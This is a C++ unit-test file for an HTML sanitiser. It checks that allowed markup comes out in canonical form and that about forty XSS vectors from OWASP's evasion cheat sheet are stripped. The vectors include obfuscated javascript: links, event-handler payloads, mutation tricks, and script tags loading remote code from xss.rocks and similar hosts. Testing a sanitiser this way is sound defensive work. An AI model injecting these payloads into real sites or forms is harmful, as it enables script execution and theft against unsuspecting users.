// The allow-list sanitiser against the vectors of OWASP's XSS Filter Evasion Cheat Sheet
// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), each with
// the exact output expected: what is allowed survives in canonical form, everything else is gone.
#include "io/html_sanitiser.hpp"

#include <gtest/gtest.h>

#include <string>

namespace jamlik {
namespace {

struct Case {
  const char* name;
  const char* input;
  const char* output;
};

constexpr Case kAllowed[] = {
    {"paragraphs", "<p>Första</p><p>Andra</p>", "<p>Första</p><p>Andra</p>"},
    {"inline", "<p><strong>fet</strong> och <em>kursiv</em><br>rad</p>",
     "<p><strong>fet</strong> och <em>kursiv</em><br>rad</p>"},
    {"lists", "<ul><li>ett</li><li>två</li></ul><ol><li>1</li></ol>",
     "<ul><li>ett</li><li>två</li></ul><ol><li>1</li></ol>"},
    {"headings and quote", "<h2>Rubrik</h2><h3>Under</h3><blockquote><p>citat</p></blockquote>",
     "<h2>Rubrik</h2><h3>Under</h3><blockquote><p>citat</p></blockquote>"},
    {"link gets rel", "<a href=\"https://example.se/a?b=1&amp;c=2\" target=\"_blank\">x</a>",
     "<a href=\"https://example.se/a?b=1&amp;c=2\" rel=\"noopener nofollow\">x</a>"},
    {"mailto", "<a href='mailto:info@example.se'>mejla</a>",
     "<a href=\"mailto:info@example.se\" rel=\"noopener nofollow\">mejla</a>"},
    {"http in capitals", "<a href=\"HTTP://EXAMPLE.SE\">x</a>",
     "<a href=\"HTTP://EXAMPLE.SE\" rel=\"noopener nofollow\">x</a>"},
    {"unclosed tags closed", "<p><strong>fet", "<p><strong>fet</strong></p>"},
    {"text escaped", "a < b & c > d \"q\"", "a &lt; b &amp; c &gt; d \"q\""},
    {"entities decoded and re-escaped", "&aring;&auml;&ouml; &lt;script&gt;", "åäö &lt;script&gt;"},
    {"unknown elements unwrapped", "<div><span style=\"color:red\">text</span></div>", "text"},
    {"h1 unwrapped", "<h1>Stor</h1>", "Stor"},
    {"table unwrapped", "<table><tr><td>a</td><td>b</td></tr></table>", "ab"},
    {"comment dropped", "a<!-- <script>alert(1)</script> -->b", "ab"},
    // As HTML5 parses it: div closes the open p, the stray </p> makes an empty one.
    {"div closes a paragraph", "<p>a<div><p>b</p></div></p>", "<p>a</p><p>b</p><p></p>"},
    {"ul closes a paragraph", "<p>a<strong><ul><li>b</li></ul></strong></p>",
     "<p>a<strong></strong></p><ul><li><strong>b</strong></li></ul><p></p>"},
    // Blocks the parser leaves inside inline elements (through a table) lose their tags.
    {"blocks in inline flattened",
     "<strong><table><tr><td><p>b</p><ul><li>c</li></ul></td></tr></table></strong>",
     "<strong>bc</strong>"},
    // As HTML5 parses it: a second a closes the first (adoption agency), em is reopened.
    {"a inside a", "<a href=\"https://a.se\"><em><a href=\"https://b.se\">x</a></em></a>",
     "<a href=\"https://a.se\" rel=\"noopener nofollow\"><em></em></a><em><a "
     "href=\"https://b.se\" rel=\"noopener nofollow\">x</a></em>"},
    {"a inside a through a table",
     "<a href=\"https://a.se\"><table><tr><td><a href=\"https://b.se\">x</a></td></tr></table></a>",
     "<a href=\"https://a.se\" rel=\"noopener nofollow\">x</a>"},
    {"li outside a list unwrapped", "<li>lös</li>", "lös"},
    {"heading inside table inside heading", "<h2><table><tr><td><h3>x</h3></td></tr></table></h2>",
     "<h2>x</h2>"},
};

// OWASP cheat-sheet vectors: the attack is gone and only harmless text (if any) remains.
constexpr Case kAttacks[] = {
    {"basic script",
     "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>", ""},
    {"script with text", "<p>hej<script>alert('XSS')</script>då</p>", "<p>hejdå</p>"},
    {"javascript href", "<a href=\"javascript:alert('XSS')\">klick</a>", "klick"},
    {"javascript href mixed case", "<a href=\"JaVaScRiPt:alert('XSS')\">x</a>", "x"},
    {"javascript href with tab entity", "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>", "x"},
    {"javascript href with newline entity", "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
     "x"},
    {"javascript href decimal entities",
     "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
     "x"},
    {"javascript href leading space", "<a href=\" &#14;  javascript:alert('XSS');\">x</a>", "x"},
    {"data url", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
     "x"},
    {"vbscript", "<a href=\"vbscript:msgbox(1)\">x</a>", "x"},
    {"image javascript", "<IMG SRC=\"javascript:alert('XSS');\">", ""},
    {"image onerror", "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>", ""},
    {"malformed img", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>", "\"\\&gt;"},
    {"on attribute kept element", "<p onmouseover=\"alert('xss')\">text</p>", "<p>text</p>"},
    {"on attribute on link",
     "<a href=\"https://x.se\" onclick=\"alert(1)\" style=\"x:expression(alert(1))\">x</a>",
     "<a href=\"https://x.se\" rel=\"noopener nofollow\">x</a>"},
    {"svg onload", "<svg/onload=alert('XSS')>", ""},
    {"svg script", "<svg><script>alert(1)</script></svg>after", "after"},
    {"body onload", "<BODY ONLOAD=alert('XSS')>text", "text"},
    {"non-alpha separator", "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>", ""},
    {"extraneous open bracket", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>", "&lt;"},
    {"no closing script tag", "<SCRIPT SRC=http://xss.rocks/xss.js?< B >", ""},
    {"half open html", "<IMG SRC=\"`<javascript:alert>`('XSS')\"", ""},
    {"end title", "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>", ""},
    {"input image", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">", ""},
    {"style tag",
     "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
     "<ul><li>XSS<br></li></ul>"},
    {"iframe", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>", ""},
    {"iframe with text", "<iframe src=https://evil.example>fallback</iframe>ok", "ok"},
    {"object",
     "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>", ""},
    {"embed",
     "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\" "
     "AllowScriptAccess=\"always\"></EMBED>",
     ""},
    {"meta refresh", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
     ""},
    {"base href", "<BASE HREF=\"javascript:alert('XSS');//\">", ""},
    {"link stylesheet", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">", ""},
    {"div background", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
     "x"},
    {"table background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD>x</TD></TABLE>", "x"},
    {"math href", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""},
    {"noscript mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", ""},
    {"template", "<template><script>alert(1)</script></template>x", "x"},
    {"textarea breakout", "<textarea></textarea><script>alert(1)</script>", ""},
    {"form action", "<form action=\"javascript:alert(1)\"><button>go</button></form>", "go"},
    {"escaped quotes in attribute", "<a href=\"https://x.se/&quot;onmouseover=alert(1)\">x</a>",
     "<a href=\"https://x.se/&quot;onmouseover=alert(1)\" rel=\"noopener nofollow\">x</a>"},
};

TEST(HtmlSanitiser, KeepsTheAllowedMarkupInCanonicalForm) {
  for (const Case& c : kAllowed) {
    EXPECT_EQ(SanitiseHtml(c.input), c.output) << c.name;
  }
}

TEST(HtmlSanitiser, RemovesEveryVectorOfTheOwaspCheatSheet) {
  for (const Case& c : kAttacks) {
    EXPECT_EQ(SanitiseHtml(c.input), c.output) << c.name;
  }
}

TEST(HtmlSanitiser, OutputSanitisesToItself) {
  for (const Case& c : kAllowed) {
    const std::string once = SanitiseHtml(c.input);
    EXPECT_EQ(SanitiseHtml(once), once) << c.name;
  }
  for (const Case& c : kAttacks) {
    const std::string once = SanitiseHtml(c.input);
    EXPECT_EQ(SanitiseHtml(once), once) << c.name;
  }
}

TEST(HtmlSanitiser, NullBytesAndInvalidUtf8) {
  // A NUL inside a tag name makes another name (unwrapped); the text between is kept as text.
  EXPECT_EQ(SanitiseHtml(std::string("<scr\0ipt>alert(1)</scr\0ipt>", 27)), "alert(1)");
  EXPECT_EQ(SanitiseHtml("a\xff"
                         "b"),
            "a\xef\xbf\xbd"
            "b");
}

TEST(HtmlSanitiser, LimitsTheDepth) {
  std::string deep;
  for (int i = 0; i < 100; ++i) deep += "<blockquote>";
  deep += "x";
  const std::string out = SanitiseHtml(deep);
  std::string expected;
  for (std::size_t i = 0; i < kMaxHtmlDepth; ++i) expected += "<blockquote>";
  expected += "x";
  for (std::size_t i = 0; i < kMaxHtmlDepth; ++i) expected += "</blockquote>";
  EXPECT_EQ(out, expected);
  EXPECT_EQ(SanitiseHtml(out), out);
  // Ten thousand levels of elements the parser nests: no recursion to overflow.
  std::string deeper;
  for (int i = 0; i < 10'000; ++i) deeper += "<div>";
  EXPECT_EQ(SanitiseHtml(deeper + "y"), "y");
}

TEST(HtmlToText, KeepsTheWordsAndSeparatesBlocks) {
  EXPECT_EQ(HtmlToText("<h2>Skolor</h2><p>Barn&amp;unga i <strong>Örebro</strong></p>"
                       "<script>alert(1)</script><ul><li>ett</li><li>två</li></ul>"),
            "Skolor Barn&unga i Örebro ett två");
}

}  // namespace
}  // namespace jamlik
